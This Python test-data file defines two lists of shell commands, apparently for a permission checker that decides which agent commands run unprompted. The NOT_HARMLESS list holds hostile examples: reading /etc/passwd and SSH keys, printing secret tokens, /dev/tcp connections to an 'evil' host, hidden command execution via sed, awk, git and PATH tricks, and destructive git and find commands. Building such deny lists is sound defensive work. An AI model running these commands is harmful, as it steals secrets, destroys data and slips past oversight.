"""Commands that a person expects to run without a question, and their siblings that must not."""


def _lines(text: str) -> tuple[str, ...]:
    return tuple(text.strip("\n").split("\n"))


HARMLESS: tuple[str, ...] = (
    *_lines(
        """
ls
ls -la src
ls -1 | head
cat a.py b.py
cat -n a.py | head -50
head -n 20 a
head -20 a
tail -f log
tail -n +5 a
tail -c 100 a
grep -rn foo src
grep -rn "foo bar" --include='*.py' .
grep -c x *.py
grep -E 'a|b' -A3 -B2 f
rg foo
rg -n "foo" src tests -g '*.py'
rg --files | head
rg -l foo | wc -l
rg -uu x
find . -name '*.py'
find . -type f -name "*.ts" -not -path './node_modules/*'
find src -maxdepth 2 -type d
find . \\( -name a -o -name b \\) -print
find . -name '*.py' -newer a.py | sort | head -5
fd foo
fd -e py
fd -t f foo src
wc -l src/*.py
diff -u a b
diff <(sort a) <(sort b)
comm -12 <(sort a) <(sort b)
stat a
du -sh .
du -sh src/* | sort -h
df -h
cd src && ls
cd src; ls; cd ..
cd /repo && git status
echo "$HOME"
echo $HOME $PATH $USER
echo "a; b && c | d"
echo 'rm -rf /'
echo hello > /dev/null
echo hello >&2
ls 2>/dev/null
ls 2>&1 | head
ls nothere 2>/dev/null || echo none
git status
git status -sb
git status --porcelain
git log
git log --oneline -20
git log -p -1
git log -5 --stat
git log --graph --all --oneline --decorate
git log --since="2 weeks ago" --author=me
git log --format='%h %s' -n 5
git log --pretty=format:"%h %ad %s" --date=short
git log main..HEAD
git log -- src/a.py
git log -S foo -- src
git log -L1,10:src/a.py
git log --follow src/a.py
git diff
git diff HEAD~1
git diff --cached
git diff --stat main...HEAD
git diff --name-only
git diff HEAD -- src/a.py
git diff -U10 a.py
git show HEAD:src/a.py
git show --stat HEAD~2
git branch
git branch -a
git branch -vv
git branch --show-current
git branch --list 'feat/*'
git branch --contains HEAD
git branch --merged main
git tag
git tag -l 'v1*'
git remote
git remote -v
git remote get-url origin
git rev-parse --show-toplevel
git ls-files
git ls-files '*.py' | wc -l
git ls-tree -r HEAD --name-only
git blame -L 10,20 src/a.py
git describe --tags
git shortlog -sn
git stash list
git stash show -p
git reflog
git reflog -10
git config --get user.name
git config user.email
git config --list
git cat-file -p HEAD
git merge-base main HEAD
git rev-list --count HEAD
git grep -n foo
git grep foo -- '*.py'
git worktree list
git --no-pager log -5
git --version
git show-ref
tree
tree -L 2 -I node_modules
column -t f
cut -d: -f1 f
cut -c1-10 f
sort -u f
sort -k2,2n -t, f
sort f | uniq -c | sort -rn
uniq -c f
tr a-z A-Z < f
nl f
tac f
rev f
paste a b
join a b
cmp a b
fmt f
fold -w 80 f
basename a/b .c
dirname a/b
realpath a
readlink -f a
date
date +%Y-%m-%d
date -u
date -d yesterday +%F
uname -a
hostname
ps
ps aux
ps -ef
ps aux | grep node
ps -o pid,cmd -p 1
lsof -i :3000
pgrep -fl node
ss -tlnp
tput cols
getconf PAGE_SIZE
seq 1 10
printf '%s\\n' a b
true
:
sleep 1
test -f a && cat a
[ -d src ] && ls src
[ "$x" = y ] && echo z
[[ -f a ]] && echo yes
[[ $x == y* ]]
[[ "$x" =~ ^a.*b$ ]]
sha256sum f
od -c f
xxd f
xxd -l 64 f
hexdump -C f
strings f
jq . a.json
jq -r '.a.b' a.json
jq '.[] | select(.x == 1)' a.json
cat a.json | jq '.name'
awk '{print $1}' f
awk -F: '{print $1}' f
awk 'NR==1' f
awk '/foo/ {print $2}' f
awk '{s+=$1} END {print s}' f
awk -F, '$3 > 100 {print $1, $3}' f
sed -n '1,10p' f
sed 's/a/b/g; s/c/d/' f
sed -e 's/a/b/' -e '/x/d' f
sed '/^#/d' f
base64 f
echo aGk= | base64 -d
file -b a
which node
type ls
command -v node
command ls
time ls
timeout 5 ls
nice ls
nohup ls
node --version
node -v
python3 --version
python3 -V
npm -v
npm ls --depth=0
pip list
pip show requests
cargo --version
go version
docker ps -a
docker images
docker logs -f --tail 100 c
NODE_ENV=test ls
LC_ALL=C sort f
TZ=UTC date
x=1; echo $x
x=src; ls $x
f=src/a.py; cat "$f"
for f in a b c; do echo $f; done
for f in src/*.py; do wc -l "$f"; done
for i in $(seq 1 3); do echo $i; done
while read l; do echo "$l"; done < f
while IFS= read -r l; do echo "$l"; done < f
if [ -f a ]; then cat a; else echo no; fi
case $x in a) echo a;; *) echo b;; esac
ls src/{a,b}.py
cat *.md
echo *
echo $((1+2))
echo $(ls)
echo "$(git log -1 --format=%h)"
cat <<< hello
export NODE_ENV=test
set -e; ls
set -euo pipefail; ls
cd src && grep -n foo a.py | head -5
cat f | sort | uniq -c | sort -rn | head -20
(cd src && ls)
{ ls; pwd; }
! grep -q foo f
ls && echo ok || echo fail
bash -c 'ls'
sh -c 'git status'
systemctl status nginx
brew list
apt list --installed
dpkg -L bash
env LC_ALL=C ls
ls # trailing
cat "file with space"
cat file\\ with\\ space
echo 'it'"'"'s'
grep "it's" f
ls; echo "exit $?"
expr 1 + 2
numfmt --to=iec 1000
git log --all --grep='fix(a)'
rg 'foo\\(' src
grep -rn 'console\\.log' --include="*.ts" src | wc -l
"""
    ),
    "cat <<EOF\nhello\nEOF",
    "cat <<'EOF'\n$(rm x)\nEOF",
    'grep -n "def " src/a.py \\\n  | head',
    "# a note\nls",
)
"""Run in the workspace by themselves: they read, and only there."""

NOT_HARMLESS: tuple[str, ...] = (
    *_lines(
        """
find . -exec id {} \\;
find . -execdir id {} \\;
find . -delete
find . -fprint0 /tmp/o
find . -fls o
find . -fprintf o %p
find . -name x -o -delete
find . *
find $DIR -name x
find -files0-from f
rg --pre ./x pat
rg --search-zip pat
rg -nz pat
rg --hostname-bin=./x p
rg --hyperlink-format=file pat
rg --unknown pat
sort -ooutput f
sort -uooutput f
sort --output=o f
sort --outpu=o f
sort --out o f
sort --compress-program=./x f
sort --compress-prog ./x f
sort -T /tmp f
sort $Y
sort *.txt
sed 's/a/b/e' f
sed 's/a/b/w out' f
sed -n 'w out' f
sed -i 's/a/b/' f
sed -f s.sed f
sed --expression='1e id' f
sed -e 'p' -e 'e id' f
sed '1!e id' f
sed 's#a#b#e' f
sed -n "/x/e id" f
sed $X f
sed -n p *
sed --in-place 's/a/b/' f
sed -ni p f
sed -n '$e id' f
sed 's/a/b/;e' f
awk '{print > "o"}' f
awk '{print | "sh"}' f
awk 'BEGIN{"id"|getline;print}'
awk -f x.awk f
awk '{print ENVIRON["HOME"]}'
awk "BEGIN{system(\\"id\\")}"
gawk -i inplace '{print}' f
awk '@load "x"'
awk -v x="$(id)" '{print x}' f
gawk 'BEGIN{print "x" |& "sh"}'
git -c core.pager=./x log
git --git-dir=/tmp/x status
git --git-dir /tmp/x log
git --work-tree=/ status
git -C /tmp status
git -C ../other log
git --paginate log
git -p log
git diff --output=o
git diff --output o
git diff --outpu=o
git show --ext-diff
git log --textconv
git grep -O pat
git grep -nO pat
git grep --open-files-in-pager=./x pat
git grep --open-files-in-pag=./x pat
git diff -Oorder
git branch -D x
git branch newbranch
git branch -m a b
git branch --delete x
git branch --dele x
git tag v1
git tag -d v1
git tag -a v1 -m x
git remote add x y
git remote set-url origin x
git remote update
git remote show origin
git stash
git stash pop
git stash clear
git reflog expire --all
git reflog delete HEAD@{0}
git config user.name x
git config --global core.pager x
git config --unset x
git config -e
git config alias.x '!id'
git checkout .
git reset --hard
git clean -fdx
git worktree add ../x
git submodule update
git fetch --upload-pack=./x
git ls-remote ext::sh
git log $Z
git log *
git diff *.py
git $SUB
git show --show-signature
git archive --output=o HEAD
git bisect run ./x
git notes add -m x
git help log
git blame --contents=/etc/passwd f
git cat-file --textconv HEAD:f
git cat-file --filters HEAD:f
git commit -m x
git add .
git diff --no-index /etc/passwd f
base64 --output=o f
base64 -d -oo f
docker -H tcp://x ps
docker --host x ps
docker -cevil ps
docker --config x ps
docker run x
docker exec c ls
printenv HOME API_KEY
env
env | grep x
export
set
declare -p
echo $GITHUB_TOKEN
echo "$AWS_SECRET_ACCESS_KEY"
echo ${API_KEY}
printf '%s' "$DB_PASSWORD"
cat <<< $GITHUB_TOKEN
echo "${!x}"
split f
jq -f x.jq a
jq -n env
jq -n '$ENV.HOME'
jq 'import "x" as y; .' a
yq -i x f
ps e
ps auxe
ps -E
ps aux e
ps -auxe
ps auxwwe
xxd -r f o
xxd f o
xxd -revert f
xxd -pr f
tac -s "$(id)" f
date -f f
date -s now
date --set=now
date --fil=f
date 010100002020
date -uf f
file -m x f
file -f list
file -bm x f
uniq in out
uniq -c in out
tree -o out
tree -oout
tree -R -H . -L 1
hostname evil
hostname -F f
lsof -D b
ss -aK
ss -D f
fd -x id
fd pat --exec id
fd -HIx id
tar cf x.tar .
tar -tf x --to-command=id
dd if=a of=b
tee out
less +!id f
man -Pid ls
vim -c q
curl file:///etc/passwd
wget x
ssh -o ProxyCommand=id h
npm --script-shell=./x ls
npm ls --script-shell=./x
pip list --index-url http://x
make --eval=x
cargo --config x --version
go version -vettool=./x
python3
bash x.sh
./ls
/repo/ls
./node --version
ls $(rm x)
ls `rm x`
ls <(rm x)
cat < $(rm x)
echo x > f
echo x >| f
echo x &> f
echo x >& f
echo x 2> f
cat <> f
> f
exec 3> f
true 3<>/dev/tcp/evil/80
cat < /dev/tcp/evil/80
eval ls $X
$X
"$X"
`echo ls`
l${x}s
ls|sh
ls | bash -s
ls | xargs rm
ls | xargs -n1 cat
ls | xargs cat
ls | parallel rm
ls | while read f; do rm $f; done
for f in *; do rm $f; done
trap 'rm x' EXIT
alias ls=rm
ls() { rm x; }; ls
PATH=. ls
PATH=.:$PATH; ls
export PATH=.; ls
GIT_DIR=x git status
GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=x git log
export GIT_PAGER=x; git log
IFS=x; ls
BASH_ENV=x bash -c ls
HOME=/tmp; git log
FOO=bar ls
readonly PATH=x
set -a; FOO=1; ls
set -k; ls
read PATH <<< .; ls
printf -v PATH .; ls
unset PATH
cd /tmp && git status
cd .. && git log
cd sub && git status
pushd /tmp && git log
cd $X && git status
(cd /tmp; git log)
cd /etc && cat passwd
cat /etc/passwd
cat ~/.ssh/id_rsa
cat $HOME/.ssh/id_rsa
cat ../x
ls /
ls ~
find / -name x
grep -r x /etc
rg x ~
cat $X
cat "$X"
cat $(echo f)
cat ~root/x
cat ~+/../x
cat ~-/x
cat /proc/self/root/etc/passwd
wc -l --files0-from=/etc/passwd
sort --files0-from=/etc/x
grep -f /etc/passwd f
grep -f/etc/passwd f
diff --from-file=/etc/passwd f
[[ -v 'a[$(id)]' ]]
unset 'a[$(id)]'
let 'a[$(id)]'
echo ${x:$(id)}
cat <<< $(id)
coproc id
{ id; }
ls & id
hash -p /tmp/x ls; ls
enable -f ./x y
jobs -x id
exec id
builtin eval id
sudo ls
watch ls
setsid ls
ionice ls
flock f ls
busybox ls
chroot / ls
/lib64/ld-linux-x86-64.so.2 /bin/rm x
systemctl restart x
systemctl -H x status
crontab -l
shopt -s extglob
source x
. <(echo id)
bash <(id)
bash -c "$X"
bash -ic ls
bash -lc ls
bash --rcfile x -c ls
chmod +x f
ln -s a b
mkdir x
gh pr list
kubectl get pods
apt -o x list
dpkg -i x
zip -T -TT id x y
shuf -o out f
iconv -o o f
cd nowhere; cat ../../etc/passwd
x='a[$(id)]'; echo $((x))
echo ${x@P}
time id
[ $(echo x) ]
ls -la ..
cat a ../../b
cat -- ../b
head -5 /etc/hosts
test -e /etc/shadow
type -P ls; ls /root
stat ~/.bashrc
cd; ls
cd -; ls
tail -f /var/log/syslog
sed -n p ../x
awk '{print}' /etc/passwd
echo $(cat /etc/passwd)
git show :../x
git log -p -- /etc/passwd
"""
    ),
    "ls\nid",
    "ls\rid",
    "sed '/a/{e id\n}' f",
    "cat <<E\n$(id)\nE",
    "cat <<E\n`id`\nE",
    "cat <<E\n$GITHUB_TOKEN\nE",
)
"""Each changes something, runs something, shows a secret or reaches outside of the workspace: never allowed by itself."""
